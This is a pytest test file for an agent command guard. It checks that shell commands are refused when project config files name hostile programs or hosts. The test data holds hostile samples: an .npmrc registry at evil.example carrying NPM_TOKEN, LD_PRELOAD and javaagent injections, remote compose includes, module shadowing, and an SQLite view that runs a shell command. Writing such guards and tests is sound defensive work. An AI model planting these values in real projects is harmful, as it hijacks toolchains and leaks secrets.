"""A program is refused where a file of the folder would say what it does (D9)."""

import shutil
import subprocess
import sys
from pathlib import Path

import pytest

from reverie.guard.guard import Allow, can_use_tool


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("HOME", str(tmp_path))
    folder = tmp_path / "project"
    (folder / "src").mkdir(parents=True)
    return folder


def is_allowed(line: str, project: Path) -> bool:
    return can_use_tool("Bash", {"command": line}, project / "memory", project) == Allow()


NAMES_A_PROGRAM_OR_PLACE = [
    ("npm ls", ".npmrc", "logs-dir=/tmp/x"),
    ("npm view react", ".npmrc", "registry=https://evil.example/${NPM_TOKEN}"),
    ("npm --version", ".npmrc", "fund=false\ncache=/tmp/x"),
    ("npm ls", ".npmrc", "save-exact=true ; x\nregistry = https://evil.example"),
    ("npm ls", ".npmrc", "fund=${HOME}"),
    ("cargo --version", "rust-toolchain.toml", "[toolchain]\npath = 'evil'"),
    ("cargo --version", "rust-toolchain", "nightly"),
    ("rustc --version", "rust-toolchain", ""),
    ("cargo metadata --no-deps", ".cargo/config.toml", "[build]\nrustc-wrapper = './evil'"),
    ("pip list", "rust-toolchain.toml", "[toolchain]\npath = 'evil'"),
    ("pip freeze", ".hg/hgrc", "[extensions]\nx = evil.py"),
    ("go version", "go.mod", "module x\ntoolchain go1.99.0"),
    ("go env GOPATH", "go.work", "go 1.99"),
    ("dotnet --version", "global.json", '{"sdk": {"paths": ["evil"]}}'),
    ("node --version", ".tool-versions", "nodejs path:./evil"),
    ("python3 --version", ".tool-versions", "python path:evil"),
    ("kubectl get pods", ".tool-versions", "kubectl path:evil"),
    ("python --version", ".python-version", "../../../evil"),
    ("python3 --version", ".python-version", "/tmp/evil"),
    ("pip list", ".python-version", "./evil"),
    ("node -v", ".nvmrc", "path:./evil"),
    ("node -v", "package.json", '{"volta": {"node": "1.2.3"}}'),
    ("npm ls", "package.json", '{"package\\u004danager": "npm@1.2.3"}'),
    ("npm ls", "package.json", '{"packageManager": "npm@1.2.3"}'),
    ("npm ls", "package.json", '{"devEngines": {"packageManager": {"name": "npm"}}}'),
    ("yarn --version", ".yarnrc", 'yarn-path "./evil.js"'),
    ("yarn --version", ".yarnrc.yml", "yarnPath: ./evil.cjs"),
    ("yarn -v", "package.json", '{"packageManager": "yarn@https://evil.example/x.js"}'),
    ("pnpm --version", "pnpm-workspace.yaml", "configDependencies: {x: 1.0.0}"),
    ("pnpm -v", ".pnpmfile.cjs", ""),
    ("mvn -v", ".mvn/jvm.config", "-javaagent:evil.jar"),
    ("docker compose ps", "compose.yaml", "include:\n  - https://evil.example/x.git"),
    ("docker compose logs", "docker-compose.yml", '"inc\\u006cude": [oci://evil.example/x]'),
    ("docker compose ps", "docker-compose.override.yml", "!!binary aW5jbHVkZQ==: [x]"),
    ("docker-compose ps", ".env", "COMPOSE_FILE=https://evil.example/x.git"),
    ("docker compose ps", ".env", "LD_PRELOAD=./evil.so"),
    ("terraform version", ".terraform-version", "1.99.0"),
    ("timeout 5 npm ls", ".npmrc", "registry=https://evil.example"),
    ("node --version", "mise.toml", '[tools]\nnode = "path:./evil"'),
    ("rg --version", ".config/mise/config.toml", ""),
    ("jq --version", ".mise.local.toml", '[tools]\n"ubi:evil/jq" = "1.0"'),
    ("rg todo", ".config/mise.toml", '[tools]\nrg = { version = "14", postinstall = "./evil" }'),
    ("node -v", "mise/config.toml", "[tools]"),
    ("node -v", ".miserc.toml", 'env = ["evil"]'),
    ("go env GOPATH", ".prototools", '[plugins]\ngo = "source:./evil"'),
    ("yarn --version", ".corepack.env", "COREPACK_NPM_REGISTRY=https://evil.example"),
    ("npm --version", ".corepack.env", ""),
    ("pnpm -v", "package.yaml", "packageManager: pnpm@9.1.0"),
    ("pnpm -v", "package.json5", '{packageManager: "pnpm@9.1.0"}'),
    ("php --version", ".php-version", "../../evil"),
]


@pytest.mark.proves("D9")
@pytest.mark.parametrize(("line", "file", "text"), NAMES_A_PROGRAM_OR_PLACE)
def test_a_program_is_refused_where_a_file_names_a_program_or_a_place(
    line: str, file: str, text: str, project: Path
) -> None:
    assert is_allowed(line, project)
    (project / file).parent.mkdir(exist_ok=True, parents=True)
    (project / file).write_text(text, encoding="utf-8")
    assert not is_allowed(line, project)
    assert not is_allowed(f"cd src && {line}", project)
    assert not is_allowed(line, project / "src")


def test_a_file_that_names_neither_is_no_reason_to_refuse(project: Path) -> None:
    (project / ".npmrc").write_text("# ours\nsave-exact=true\n\nfund = false\n", encoding="utf-8")
    (project / ".tool-versions").write_text("nodejs 20.1.0\npython 3.12.1\n", encoding="utf-8")
    (project / "package.json").write_text('{"name": "x", "version": "1.0.0"}', encoding="utf-8")
    (project / ".nvmrc").write_text("lts/*\n", encoding="utf-8")
    (project / ".python-version").write_text("3.12.1\n", encoding="utf-8")
    (project / "compose.yaml").write_text("services:\n  db: {image: postgres}", encoding="utf-8")
    (project / "mise.toml").write_text('# ours\n[tools]\ngo = "1.24.1"\n"node" = "lts"\n')
    for line in ("docker compose ps", "npm ls", "node --version", "python3 --version", "pip list"):
        assert is_allowed(line, project), line


def test_what_lies_in_the_home_of_the_user_is_the_users(project: Path) -> None:
    (project.parent / ".npmrc").write_text("registry=https://mine.example", encoding="utf-8")
    (project.parent / ".cargo").mkdir()
    assert is_allowed("npm ls", project)
    assert is_allowed("cargo --version", project)


@pytest.mark.parametrize("kind", ["folder", "loop", "bytes", "long"])
def test_a_file_that_cannot_be_read_is_a_reason_to_refuse(kind: str, project: Path) -> None:
    file = project / ".npmrc"
    if kind == "folder":
        file.mkdir()
    elif kind == "loop":
        file.symlink_to(file)
    else:
        file.write_bytes(b"fund=\xff" if kind == "bytes" else b"# x\n" * 20_000)
    assert not is_allowed("npm ls", project)


@pytest.mark.proves("D9")
@pytest.mark.parametrize("module", ["_colorize.py", "_py_warnings/__init__.py", "annotationlib.py"])
def test_modules_that_only_newer_pythons_have_are_looked_for_as_well(
    module: str, project: Path
) -> None:
    (project / "data.json").write_text("{}", encoding="utf-8")
    (project / "__init__.py").write_text("", encoding="utf-8")
    line = "python3 -m json.tool data.json"
    assert is_allowed(line, project)
    (project / module).parent.mkdir(exist_ok=True)
    (project / module).write_text("", encoding="utf-8")
    assert not is_allowed(line, project)


@pytest.mark.proves("D9")
@pytest.mark.parametrize("module", ["json.py", "argparse.py", "json/__init__.py", "re.py"])
def test_python_runs_a_module_only_where_the_folder_cannot_shadow_what_it_imports(
    module: str, project: Path
) -> None:
    data, proof = project / "data.json", project / "proof"
    data.write_text("{}", encoding="utf-8")
    line = "python3 -m json.tool data.json"
    assert is_allowed(line, project)
    (project / module).parent.mkdir(exist_ok=True)
    (project / module).write_text(f"open({str(proof)!r}, 'w').close()", encoding="utf-8")
    # Python falls for it: a folder that is harmless would prove nothing.
    words = ["-m", "json.tool", "data.json"]
    subprocess.run([sys.executable, *words], cwd=project, capture_output=True, check=False)
    assert proof.exists()
    assert not is_allowed(line, project)
    assert not is_allowed(f"cd ../project && {line}", project / "src")
    proof.unlink()
    subprocess.run([sys.executable, "-I", *words], cwd=project, capture_output=True, check=True)
    assert not proof.exists()
    assert is_allowed("python3 -I -m json.tool data.json", project)


@pytest.mark.proves("D9")
@pytest.mark.skipif(shutil.which("sqlite3") is None, reason="the shell of SQLite is not here")
def test_a_view_starts_a_program_unless_the_safe_mode_is_asked_for(project: Path) -> None:
    proof = project / "proof"
    view = f"create view users as select edit('x', 'touch {proof};:')"
    subprocess.run(["sqlite3", "app.db", view], cwd=project, check=True)
    plain = ["sqlite3", "-readonly", "app.db", "select * from users"]
    subprocess.run(plain, cwd=project, capture_output=True, check=False)
    assert proof.exists()
    proof.unlink()
    assert not is_allowed("sqlite3 -readonly app.db 'select * from users'", project)
    subprocess.run(["sqlite3", "-safe", *plain[1:]], cwd=project, capture_output=True, check=False)
    assert not proof.exists()
    line = "sqlite3 -safe -readonly 'file:app.db?immutable=1' 'select * from users'"
    assert is_allowed(line, project)


@pytest.mark.proves("D9")
@pytest.mark.skipif(shutil.which("sqlite3") is None, reason="the shell of SQLite is not here")
def test_a_database_with_a_log_is_read_only_as_one_that_nobody_changes(project: Path) -> None:
    made = "pragma journal_mode=wal; create table t(a);"
    subprocess.run(["sqlite3", "app.db", made], cwd=project, capture_output=True, check=True)
    read = ["sqlite3", "-safe", "-readonly"]
    immutable = [*read, "file:app.db?immutable=1", ".tables"]
    done = subprocess.run(immutable, cwd=project, capture_output=True, check=True, text=True)
    assert done.stdout.strip() == "t" and not list(project.glob("app.db-*"))
    assert is_allowed("sqlite3 -safe -readonly 'file:app.db?immutable=1' .tables", project)
    subprocess.run([*read, "app.db", ".tables"], cwd=project, capture_output=True, check=True)
    assert list(project.glob("app.db-*"))
    assert not is_allowed("sqlite3 -safe -readonly app.db .tables", project)
